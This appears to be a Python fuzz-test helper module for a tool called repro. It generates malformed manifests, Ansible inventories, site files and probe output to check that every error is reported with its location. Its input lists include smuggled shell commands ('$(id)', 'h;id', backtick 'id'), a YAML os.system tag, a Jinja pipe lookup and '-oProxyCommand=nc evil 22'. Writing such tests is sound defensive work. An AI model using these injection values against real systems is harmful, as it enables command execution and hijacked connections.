"""Hostile and broken inputs for the fuzz tests: manifests and inventories, with the property each must hold.

The property is the same everywhere: an input gives a value or a ReproError whose every diagnostic is
located at file:line (where the input has lines); never another exception, never a hang. Used by
tests/unit/test_manifest_fuzz.py, tests/unit/test_inventory_fuzz.py, the end-to-end inventory cases in
tests/integration/test_inventory_input.py and the longer run in bench/fuzz_inputs.py.

REPRO_FUZZ_SCALE multiplies every example count (bench/fuzz_inputs.py sets it for a nightly-style run).
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml
from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

from repro.errors import Diagnostic, InventoryError, ManifestError, ReproError

ROOT = Path(__file__).resolve().parents[2]
SCALE = max(1, int(os.environ.get("REPRO_FUZZ_SCALE", "1") or 1))
CASE_SECONDS = 20  # one case taking longer is a hang


def fuzz_settings(examples: int, *, shrink: bool = True) -> settings:
    """Reproducible settings: derandomized (a fixed seed) unless REPRO_FUZZ_SCALE asks for a longer random run.

    shrink=False for slow cases (a second per ansible-inventory call): a failure is reported as found.
    """
    phases = [Phase.explicit, Phase.reuse, Phase.generate] + ([Phase.shrink] if shrink else [])
    return settings(max_examples=examples * SCALE, deadline=None, derandomize=SCALE == 1, database=None,
                    suppress_health_check=list(HealthCheck), phases=phases)


class Hang(BaseException):
    """A case ran past CASE_SECONDS (BaseException, so no `except Exception` in repro can swallow it)."""


@contextlib.contextmanager
def time_limit(seconds: float = CASE_SECONDS) -> Iterator[None]:
    def expire(signum: int, frame: object) -> None:
        raise Hang(f"no answer within {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


@contextlib.contextmanager
def unlimited_int_digits() -> Iterator[None]:
    """Let the generators write integers of more than 4,300 digits (repro itself never converts them)."""
    previous = sys.get_int_max_str_digits()
    sys.set_int_max_str_digits(0)
    try:
        yield
    finally:
        sys.set_int_max_str_digits(previous)


@dataclass
class Tally:
    """What a fuzz run saw: cases, values, errors, and errors without a line (which must stay 0)."""

    cases: int = 0
    ok: int = 0
    errors: int = 0
    diagnostics: int = 0
    unlocated: list[str] = field(default_factory=list)

    def error(self, exc: ReproError, has_lines: bool) -> None:
        self.errors += 1
        diagnostics: list[Diagnostic] = getattr(exc, "diagnostics", [])
        assert exc.render()
        if not diagnostics and has_lines:  # an error that names no place at all
            self.diagnostics += 1
            self.unlocated.append(exc.render())
        for d in diagnostics:
            self.diagnostics += 1
            if has_lines and (d.location is None or d.location.line is None):
                self.unlocated.append(d.render())


def has_lines(data: bytes) -> bool:
    return bool(data.strip())


# ---------------------------------------------------------------- manifests

SHIPPED = sorted((ROOT / "stacks").glob("*.yaml"))
BASE_STACK = (ROOT / "stacks" / "cpu-tf215.yaml").read_text()
YAML_CHARS = st.sampled_from(list(":-[]{}&*!|>'\"#%@,?<\n\t \\") + list("abc019.") + ["\x00", "\u2028", "\ufeff",
                                                                                        "\u0663", "\uff11"])
FIELDS = ["os", "distro", "version", "python", "cuda", "cudnn", "nccl", "driver", "mpi", "tensorflow", "horovod",
          "env", "benchmark", "packages", "extends", "name", "with_gloo", "gpu_operations", "steps", "ofed"]
SCALARS = st.one_of(st.none(), st.booleans(), st.integers(-10**30, 10**30), st.floats(allow_nan=True),
                    st.text(max_size=20), st.sampled_from(["2.15.1", "10.0", "4.7-3", "NCCL", "0", "..", "1e9"]))
DOCUMENTS = st.recursive(
    SCALARS,
    lambda children: st.one_of(st.lists(children, max_size=4),
                               st.dictionaries(st.one_of(st.sampled_from(FIELDS), st.text(max_size=8)), children,
                                               max_size=5)),
    max_leaves=25,
)
# Where a hostile value goes in a valid stack (YAML text), and what goes there: written as raw YAML, so
# unbalanced quotes, tags and escapes reach the parser as they would from a file.
FIELD_LINES = {
    "python": "python: {}", "os.version": "os: {{distro: debian, version: {}}}", "mpi.version":
    "mpi: {{implementation: openmpi, version: {}}}", "tensorflow.version": "tensorflow: {{version: {}}}",
    "tensorflow.package": "tensorflow: {{version: '2.15.1', package: {}}}", "horovod.version":
    "horovod: {{version: {}}}", "packages.pip": "packages: {{pip: [{}]}}", "packages.apt": "packages: {{apt: [{}]}}",
    "base_image": "base_image: {}", "env": "env: {{NCCL_DEBUG: {}}}", "env.key": "env: {{{}: x}}",
    "benchmark.model": "benchmark: {{model: {}}}", "benchmark.batch_size": "benchmark: {{batch_size: {}}}",
    "container.ssh_port": "container: {{ssh_port: {}}}", "description": "description: {}", "name": "name: {}",
    "extends": "extends: {}", "key": "{}: 1",
}
HOSTILE_TEXT = [
    '"\u0662.\u0661\u0665.\u0661"', '"\uff11\uff10.\uff10"', '"\u00b2.1"', "1" * 5000, "-" + "9" * 4400,
    '"' + "1." * 3000 + '1"', '"foo', "'", "\"a'b\"", '"$(touch /tmp/repro-pwned)"', "'`id`'", '"--index-url=x"',
    '"six==1.0\\nRUN id"', '"a\\0b"', '"\\ud800"', '"\\udc80x"', "[1, 2]", "{a: 1}", "true", "null", "~", "1e400",
    "!!timestamp x", "!!int 0x1f", "!!binary AAAA", "!!python/object:os.system {}", "!!float nan", "!!set {a}",
    '"{{ lookup(\'pipe\', \'id\') }}"', "&a [*a]", "*undefined", '"' + "x" * 70000 + '"', "0o17", "1_000",
    '"\\u2028"', '"\\x85"', "|\n  a\n  b", ">\n  x", "-1", "0", "99999999999999999999999",
]


HOSTILE_BASE = {
    "description": "description: fuzz base", "os": "os: {distro: debian, version: '12'}",
    "mpi": "mpi: {implementation: openmpi, version: '4.1.4'}", "python": "python: '3.11'",
    "tensorflow": "tensorflow: {version: '2.15.1', package: tensorflow-cpu}",
    "horovod": "horovod: {version: '0.28.1', with_mpi: true, with_gloo: true}",
    "benchmark": "benchmark: {workload: cnn, model: resnet20, batch_size: 32, warmup_steps: 3, steps: 20}",
}


def hostile_stack(path_key: str, value: str) -> str:
    """A valid CPU stack (one line per field) with one field replaced by a hostile value (raw YAML)."""
    lines = dict(HOSTILE_BASE)
    top = path_key.split(".")[0] if path_key not in ("key", "env.key") else "(added)"
    lines[top] = FIELD_LINES[path_key].format(value)
    return "\n".join(lines.values()) + "\n"


SPECIAL_TARGETS = ("loop", "self", "cycle", "fifo", "dev-zero", "dev-null", "directory", "missing", "nul",
                   "surrogate", "long", "dash", "binary", "absolute-valid", "socket-like", "parent-error",
                   "grandparent-error")


def special_extends(tmp: Path, target: str) -> Path:
    """A child stack whose `extends:` points at something that is not a readable manifest."""
    child = tmp / "child.yaml"
    name = {"loop": "loop.yaml", "self": "child.yaml", "cycle": "a.yaml", "fifo": "fifo.yaml",
            "dev-zero": "/dev/zero", "dev-null": "/dev/null", "directory": "dir.yaml", "missing": "gone.yaml",
            "nul": '"a\\0b.yaml"', "surrogate": '"\\ud800.yaml"', "long": "x" * 5000 + ".yaml", "dash": "-x.yaml",
            "binary": "junk.yaml", "absolute-valid": str(ROOT / "stacks" / "tf114-cuda10.yaml"),
            "socket-like": "/proc/self/fd/0", "parent-error": "broken.yaml", "grandparent-error": "middle.yaml"}[target]
    if target == "loop":
        (tmp / "loop.yaml").symlink_to(tmp / "loop.yaml")
    elif target == "cycle":
        (tmp / "a.yaml").write_text("extends: b.yaml\n")
        (tmp / "b.yaml").write_text("extends: a.yaml\n")
    elif target == "fifo":
        os.mkfifo(tmp / "fifo.yaml")
    elif target == "directory":
        (tmp / "dir.yaml").mkdir()
    elif target == "binary":
        (tmp / "junk.yaml").write_bytes(b"\x00\xff\xfe" * 50)
    elif target == "parent-error":
        (tmp / "broken.yaml").write_text(BASE_STACK.replace('python: "3.11"', 'python: "\u0663.\u0661\u0661"'))
    elif target == "grandparent-error":
        (tmp / "middle.yaml").write_text("extends: broken.yaml\n")
        (tmp / "broken.yaml").write_text(BASE_STACK + "benchmark: {batch_size: [1, 2}\n")
    child.write_text(f"extends: {name}\ndescription: child\n")
    return child


def _mutated(args: tuple[Path, list[tuple[int, int, str]]]) -> bytes:
    path, edits = args
    text = path.read_text()
    for pos, cut, insert in edits:
        pos = pos % (len(text) + 1)
        text = text[:pos] + insert + text[pos + cut:]
    # a mutated child keeps resolving `extends` against the real stacks directory
    return text.replace("extends: ", f"extends: {ROOT / 'stacks'}/").encode("utf-8", "surrogatepass")


def _over_a_valid_stack(overrides: dict) -> bytes:
    base = yaml.safe_load((ROOT / "stacks" / "tf114-cuda10.yaml").read_text())
    base["extends"] = str(ROOT / "stacks" / "tf110-cuda91.yaml")
    base.update(overrides)
    return yaml.safe_dump(base, allow_unicode=True).encode()


@st.composite
def _nested(draw) -> str:
    """Deep flow and block nesting, duplicate keys, alias bombs, runs of quotes."""
    depth = draw(st.integers(1, 3000))
    kind = draw(st.sampled_from(["flow-seq", "flow-map", "block", "dup", "alias", "quote"]))
    if kind == "flow-seq":
        return "a: " + "[" * depth + "]" * draw(st.integers(0, depth)) + "\n"
    if kind == "flow-map":
        return "a: " + "{b: " * depth + "}" * draw(st.integers(0, depth)) + "\n"
    if kind == "block":
        return "".join("  " * i + f"k{i}:\n" for i in range(min(depth, 400))) + "  " * min(depth, 400) + "x: 1\n"
    if kind == "dup":
        key = draw(st.sampled_from(["python", "os", "env", "benchmark", "tensorflow"]))
        return hostile_stack("python", "'3.11'") + f"{key}: 1\n" * draw(st.integers(1, 5))
    if kind == "alias":
        width = draw(st.integers(2, 12))
        lines = ["a0: &a0 [" + ",".join(["x"] * width) + "]"]
        lines += [f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * width) + "]" for i in range(1, min(depth, 12))]
        return "\n".join(lines) + "\n"
    return hostile_stack("description", '"' + "\\\"" * draw(st.integers(0, 5)) + "'" * depth)


_EDITS = st.lists(st.tuples(st.integers(0, 2000), st.integers(0, 40), st.text(YAML_CHARS, max_size=12)), max_size=6)
# class -> (cases per run, strategy, the manifest bytes of a drawn value)
MANIFEST_CLASSES: dict[str, tuple[int, Any, Any]] = {
    "random bytes": (200, st.binary(max_size=3000), bytes),
    "mutated shipped stacks": (250, st.tuples(st.sampled_from(SHIPPED), _EDITS), _mutated),
    "random documents": (150, DOCUMENTS, lambda doc: yaml.safe_dump(doc, allow_unicode=True).encode()),
    "random fields over a valid stack": (150, st.dictionaries(st.sampled_from(FIELDS), DOCUMENTS, max_size=6),
                                         _over_a_valid_stack),
    "hostile values in every field": (350, st.tuples(st.sampled_from(sorted(FIELD_LINES)),
                                                     st.sampled_from(HOSTILE_TEXT)),
                                      lambda fv: hostile_stack(*fv).encode("utf-8", "surrogatepass")),
    "nesting, duplicates, bombs": (150, _nested(), str.encode),
}


def manifest_property(path: Path, tally: Tally) -> None:
    """Load, hash and check one manifest file; record the outcome. Raises on a traceback or a hang."""
    from repro.manifest import load_stack
    from repro.manifest.compat import check

    tally.cases += 1
    try:
        raw = path.read_bytes() if path.is_file() and not path.is_symlink() else b"x"
    except OSError:
        raw = b"x"
    with time_limit():
        try:
            loaded = load_stack(path)
        except ManifestError as exc:
            tally.error(exc, has_lines(raw))
            return
        assert len(loaded.hash) == 12 and len(loaded.image_hash) == 12
        findings = check(loaded)
    tally.ok += 1
    for finding in findings:
        assert finding.render()
        json.dumps(finding.as_dict())
        if finding.severity == "error":
            tally.errors += 1
            tally.diagnostics += 1
            if finding.location is None or finding.location.line is None:
                tally.unlocated.append(finding.render())


# ---------------------------------------------------------------- inventories


VALID_VALUES: dict[str, list[Any]] = {
    "ansible_host": ["10.0.0.1", "node-1.example.com", "fe80::1", "c4140-1"],
    "ansible_port": [22, 2222, 65535],
    "ansible_user": ["root", "dell", "svc_user"],
    "ansible_ssh_private_key_file": ["~/.ssh/id_ed25519", "/root/.ssh/repro key"],
    "ansible_connection": ["ssh", "local"],
    "repro_known_hosts": ["~/.ssh/known_hosts", "/etc/ssh/ssh_known_hosts"],
    "repro_slots": [1, 4, 8],
    "repro_gpus": [0, 4],
    "repro_docker_host": ["unix:///var/run/docker.sock", "tcp://10.0.0.2:2375", "ssh://root@h1"],
    "repro_interface": ["eth0", "ib0", "enp1s0f0"],
    "repro_python": ["python3", "/usr/bin/python3.11"],
    "repro_registry": ["registry.example.com:5000", "localhost:5000/team"],
    "repro_dataset_dir": ["/data/imagenet", "/home/dell/imagenet_tfrecords"],
    "repro_infiniband": [True, False, "true", "no"],
    "repro_link_gbps": [100, 25.0, 12.5],
    "repro_launch_key": ["~/.ssh/id_ed25519", "/root/.ssh/launch"],
    "repro_launch_known_hosts": ["~/.ssh/known_hosts"],
}
# Wrong for every variable of the contract.
INVALID_EVERYWHERE: list[Any] = ["x\ny", "a\x00b", "{{ lookup('pipe', 'id') }}", [1, 2], {"a": 1}, float("nan"),
                                 10**5000, "-oProxyCommand=nc evil 22", "\ud800x"]
INVALID_VALUES: dict[str, list[Any]] = {
    "ansible_host": ["../../x", "a b", "h;id", "$(id)", 123, "\u0663.\u0661", "a..b"],
    "ansible_port": [0, 70000, "22x", "\u0662\u0662", 1.5, True],
    "ansible_user": ["root; id", "a b", 1000],
    "ansible_ssh_private_key_file": [123, ["k"]],
    "ansible_connection": ["ssh -o x", "SSH!", "community.docker.docker", "paramiko"],
    "repro_known_hosts": [123, "/a b -oProxyCommand=x", "~/.ssh/known hosts", "$HOME/kh"],
    "repro_slots": [0, -1, 5000, "four", "\uff14", 10**30, False],
    "repro_gpus": [-1, "many", 2000],
    "repro_docker_host": ["-H tcp://evil", "unix://relative", "http://x", "tcp://a b"],
    "repro_interface": ["eth0 x", "a" * 16, "eth0;id", "../x", "-x", "\u0663"],
    "repro_python": ["python3 -c 'import os'", "$(id)", "py|sh"],
    "repro_registry": ["http://registry", "Reg Istry", "a/../b"],
    "repro_dataset_dir": ["relative/dir", "/data:rw", "/a b", "/x,y"],
    "repro_infiniband": ["maybe", 2, "enabled"],
    "repro_link_gbps": [0, -5, float("inf"), "fast", 10**20],
    "repro_launch_key": ["/root/.ssh/id with space", "'~/.ssh/id_ed25519'", 5, "-oProxyCommand=x"],
    "repro_launch_known_hosts": ["/a b", '"quoted"'],
}
VALID_NAMES = ["h1", "node-01", "c4140-1", "node_1", "10.0.0.5", "gpu01.cluster.example.com"]
INVALID_NAMES = ["../../../../x", "-oProxyCommand=x", "a b", "h/1", "x" * 300, "\uff48\uff11", ".hidden", "a..b",
                 "h;id", "$(id)"]
JUNK = st.one_of(st.text(max_size=30), st.integers(-10**25, 10**25), st.floats(), st.booleans(), st.none(),
                 st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=5), st.integers(), max_size=2))


@dataclass
class Value:
    value: Any
    valid: bool | None  # None: junk, its validity is not asserted

    def __repr__(self) -> str:
        big = isinstance(self.value, int) and abs(self.value) > 10**40
        shown = f"<int of {len(str(abs(self.value)))} digits>" if big and sys.get_int_max_str_digits() == 0 else \
            "<int of more than 40 digits>" if big else repr(self.value)[:80]
        return f"Value({shown}, valid={self.valid})"


@st.composite
def values_for(draw, var: str) -> Value:
    kind = draw(st.sampled_from(["valid", "valid", "invalid", "everywhere", "junk"]))
    if kind == "valid":
        return Value(draw(st.sampled_from(VALID_VALUES[var])), True)
    if kind == "invalid":
        return Value(draw(st.sampled_from(INVALID_VALUES[var])), False)
    if kind == "everywhere":
        return Value(draw(st.sampled_from(INVALID_EVERYWHERE)), False)
    return Value(draw(JUNK), None)


@st.composite
def variables(draw, max_size: int = 4) -> dict[str, Value]:
    names = draw(st.lists(st.sampled_from(sorted(VALID_VALUES)), max_size=max_size, unique=True))
    return {var: draw(values_for(var)) for var in names}


@dataclass
class InventoryCase:
    fmt: str  # "yaml" or "ini"
    hosts: list[tuple[str, bool, dict[str, Value]]]
    group_vars: dict[str, Value]
    host_vars_file: bool  # the first host's variables in host_vars/NAME.yml
    group_vars_file: bool  # the group's variables in group_vars/workers.yml

    def effective(self, index: int) -> dict[str, Value]:
        return {**self.group_vars, **self.hosts[index][2]}

    @property
    def expect_valid(self) -> bool | None:
        flags = [ok for _, ok, _ in self.hosts] + [v.valid for i in range(len(self.hosts))
                                                     for v in self.effective(i).values()]
        return None if None in flags else all(flags)

    def invalid_paths(self) -> set[str]:
        out = set()
        for i, (name, ok, _) in enumerate(self.hosts):
            if not ok:
                out.add("hosts")
                continue
            out |= {f"{name}.{var}" for var, v in self.effective(i).items() if v.valid is False}
        return out


@st.composite
def inventory_cases(draw) -> InventoryCase:
    count = draw(st.integers(1, 3))
    names = draw(st.lists(st.one_of(st.sampled_from(VALID_NAMES).map(lambda n: (n, True)),
                                    st.sampled_from(INVALID_NAMES).map(lambda n: (n, False))),
                          min_size=count, max_size=count, unique_by=lambda t: t[0]))
    hosts = [(name, ok, draw(variables())) for name, ok in names]
    case = InventoryCase(draw(st.sampled_from(["yaml", "yaml", "ini"])), hosts, draw(variables(3)),
                         draw(st.booleans()) and names[0][1], draw(st.booleans()))
    if case.fmt == "ini":  # keep what INI can write (no spaces, quotes or control characters)
        case.hosts = [(n, ok, {k: v for k, v in hv.items() if ini_text(v.value) is not None})
                      for n, ok, hv in case.hosts]
        case.group_vars = {k: v for k, v in case.group_vars.items() if ini_text(v.value) is not None}
        if not ini_representable(case):
            case.fmt = "yaml"
    return case


def ini_text(value: Any) -> str | None:
    """How an INI inventory writes a value, or None where INI cannot (spaces, quotes, control characters)."""
    if isinstance(value, bool | float) or (isinstance(value, int) and abs(value) < 10**40):
        return repr(value) if not (isinstance(value, float) and value != value) else None
    if isinstance(value, str) and value and all(c.isprintable() and c not in " \t\"'=#;\\[]" for c in value) \
            and value.isascii():
        return value
    return None


def ini_representable(case: InventoryCase) -> bool:
    return all(ini_text(v.value) is not None for _, _, hv in case.hosts for v in hv.values()) and \
        all(ini_text(v.value) is not None for v in case.group_vars.values()) and \
        all(n.isascii() and " " not in n and not n.startswith(("[", "#", ";")) for n, _, _ in case.hosts)


def ini_value(text: str) -> Any:
    """What Ansible's INI plugin makes of a value (a Python literal where it parses as one, else the text)."""
    import ast

    try:
        return ast.literal_eval(text)
    except (ValueError, SyntaxError, TypeError, MemoryError, RecursionError):
        return text


def _plain(values: dict[str, Value]) -> dict[str, Any]:
    return {k: v.value for k, v in values.items()}


def write_inventory(case: InventoryCase, folder: Path) -> Path:
    """The case as inventory files in `folder`; returns the inventory path."""
    with unlimited_int_digits():
        if case.group_vars_file and case.group_vars:
            (folder / "group_vars").mkdir(exist_ok=True)
            (folder / "group_vars" / "workers.yml").write_text(yaml.safe_dump(_plain(case.group_vars)))
        if case.host_vars_file and case.hosts[0][2]:
            (folder / "host_vars").mkdir(exist_ok=True)
            (folder / "host_vars" / f"{case.hosts[0][0]}.yml").write_text(yaml.safe_dump(_plain(case.hosts[0][2])))
        inline = [(n, {} if case.host_vars_file and i == 0 else _plain(hv))
                  for i, (n, _, hv) in enumerate(case.hosts)]
        group_inline = {} if case.group_vars_file else _plain(case.group_vars)
        if case.fmt == "ini":
            lines = ["[workers]"] + [" ".join([n, *(f"{k}={ini_text(v)}" for k, v in hv.items())]) for n, hv in inline]
            if group_inline:
                lines += ["", "[workers:vars]", *(f"{k}={ini_text(v)}" for k, v in group_inline.items())]
            path = folder / "hosts.ini"
            path.write_text("\n".join(lines) + "\n")
            return path
        workers: dict[str, Any] = {"hosts": {n: (hv or None) for n, hv in inline}}
        if group_inline:
            workers["vars"] = group_inline
        path = folder / "hosts.yml"
        path.write_text(yaml.safe_dump({"all": {"children": {"workers": workers}}}, sort_keys=False))
        return path


def listing_json(case: InventoryCase) -> str:
    """What `ansible-inventory --list` prints for the case's files (as Ansible reads YAML or INI values)."""
    def seen(value: Any) -> Any:
        return ini_value(ini_text(value)) if case.fmt == "ini" and ini_text(value) is not None else value

    hostvars = {}
    for i, (name, _, _) in enumerate(case.hosts):
        hostvars[name] = {k: seen(v.value) for k, v in case.effective(i).items()}
    data = {"_meta": {"hostvars": hostvars}, "all": {"children": ["ungrouped", "workers"]},
            "workers": {"hosts": [n for n, _, _ in case.hosts]}}
    with unlimited_int_digits():
        return json.dumps(data)


def inventory_property(case: InventoryCase, path: Path, tally: Tally, *, end_to_end: bool = False) -> Any:
    """Read the inventory (in-process from its listing, or through ansible-inventory) and check the outcome.

    Returns the Inventory, or the InventoryError.
    """
    from repro.hosts import inventory as module
    from repro.hosts.inventory_listing import parse_listing

    def read() -> Any:
        if end_to_end:
            return module.load_inventory(path)
        return module.inventory_from_listing(parse_listing(listing_json(case), path), path)

    tally.cases += 1
    with time_limit():
        try:
            inventory = read()
        except InventoryError as exc:
            tally.error(exc, True)
            paths = {d.path for d in exc.diagnostics}
            refused_by_ansible = "Ansible cannot read" in exc.message
            if not refused_by_ansible:
                assert case.expect_valid is not True, exc.render()
                missing = case.invalid_paths() - paths
                assert not missing, f"{missing} not reported:\n{exc.render()}"
            return exc
    tally.ok += 1
    assert case.expect_valid is not False, f"accepted invalid values: {case}"
    assert [h.name for h in inventory.hosts] == [n for n, _, _ in case.hosts]
    for i, host in enumerate(inventory.hosts):
        values = {k: v.value for k, v in case.effective(i).items() if v.valid}
        if "ansible_port" in values:
            assert host.port == int(values["ansible_port"])
        if "repro_slots" in values:
            assert host.slots == int(values["repro_slots"])
        if "repro_interface" in values:
            assert host.interface == values["repro_interface"]
    return inventory


# ---------------------------------------------------------------- store records, site files, probe output (issue 38)

# Shapes that broke a whole command before: nesting deeper than any reader recurses, lists that allocate gigabytes
# downstream, text that is not UTF-8. Written as JSON text, so a case costs its size once.
LONE = ['"\\ud800"', '"x\\udc80"', '"\\udfff\\ud800"']


@st.composite
def record_shapes(draw) -> tuple[bool | None, str]:
    """A JSON value to put at some place of a valid record, and whether no record can hold it (None: junk, not
    asserted): nested deeper than 64 levels, a list of more than 200,000 items, a lone surrogate."""
    kind = draw(st.sampled_from(["deep-list", "deep-object", "long-list", "surrogate", "junk"]))
    depth = draw(st.integers(1, 3000))
    if kind == "deep-list":
        return depth > 64, "[" * depth + "]" * depth
    if kind == "deep-object":
        return depth > 64, '{"a": ' * depth + "1" + "}" * depth
    if kind == "long-list":
        items = draw(st.sampled_from([10, 200_001]))
        return items > 200_000, "[" + ",".join(["0.1"] * items) + "]"
    if kind == "surrogate":
        return True, draw(st.sampled_from(LONE))
    return None, json.dumps(draw(DOCUMENTS))


@st.composite
def site_files(draw) -> bytes:
    """A repro.toml: random bytes, a valid one with a hostile value or key, deep nesting, huge numbers."""
    kind = draw(st.sampled_from(["bytes", "value", "deep", "digits", "header", "key"]))
    table = draw(st.sampled_from(["site", "kubernetes", "other"]))
    depth = draw(st.integers(1, 3000))
    value = draw(st.one_of(st.sampled_from(['"/srv/x"', '""', "1", "true", "[]", "{}", '"\\ud800"', "'a\\b'",
                                            '"""a\nb"""', "1979-05-27", "inf", "nan", "0x1f", '"\\u0000"']),
                           st.text(YAML_CHARS, max_size=12)))
    if kind == "bytes":
        return draw(st.binary(max_size=400))
    if kind == "deep":
        return f"[{table}]\nx = {'[' * depth}{']' * draw(st.integers(0, depth))}\n".encode()
    if kind == "digits":
        return f"[{table}]\nx = {'9' * draw(st.integers(4000, 6000))}\n".encode()
    if kind == "header":
        return f"[{'.'.join(['a'] * depth)}]\nx = 1\n".encode()
    key = draw(st.sampled_from(["store", "playbooks", "stacks", "namespace", "image_pull_secret"])) \
        if kind == "value" else draw(st.text(YAML_CHARS, min_size=1, max_size=8))
    return f"[{table}]\n{key} = {value}\n".encode("utf-8", "surrogatepass")


GPU_PROBE = json.loads((ROOT / "tests" / "data" / "probes" / "gpu-torch211-cu130.json").read_text())
PROBE_FIELDS = [*GPU_PROBE, "mpi", "horovod", "horovod_built", "tensorflow", "packages", "torch.version",
                "torch.cuda", "torch.backends", "torch.error"]


@st.composite
def probe_outputs(draw) -> bytes:
    """What a (hostile) interpreter prints for the host probe: bytes, JSON of any shape, the real probe's line with
    one field hostile, deep nesting, text around it."""
    kind = draw(st.sampled_from(["bytes", "document", "field", "field", "deep", "noise"]))
    if kind == "bytes":
        return draw(st.binary(max_size=600))
    if kind == "document":
        return json.dumps(draw(DOCUMENTS)).encode()
    if kind == "deep":
        depth = draw(st.integers(1, 5000))
        return ('{"torch": ' * depth + "null" + "}" * depth).encode()
    found = json.loads(json.dumps(GPU_PROBE))
    where = draw(st.sampled_from(PROBE_FIELDS)).split(".")
    value = draw(st.one_of(DOCUMENTS, st.sampled_from(["3.12.3\ninjected: true", "x\u2028y: 1", "\x1b[2J", "a" * 5000,
                                                       "\ud800", "2.11.0+cu130\r\nos: evil", "null", "-1"])))
    node = found
    for key in where[:-1]:
        node = node.setdefault(key, {}) if isinstance(node.get(key, {}), dict) else {}
    node[where[-1]] = value
    line = json.dumps(found, ensure_ascii=draw(st.booleans()))
    if kind == "noise":
        line = draw(st.text(max_size=40)) + "\n" + line + draw(st.sampled_from(["", "\n", "\n\n", " trailing"]))
    return line.encode("utf-8", "surrogatepass")
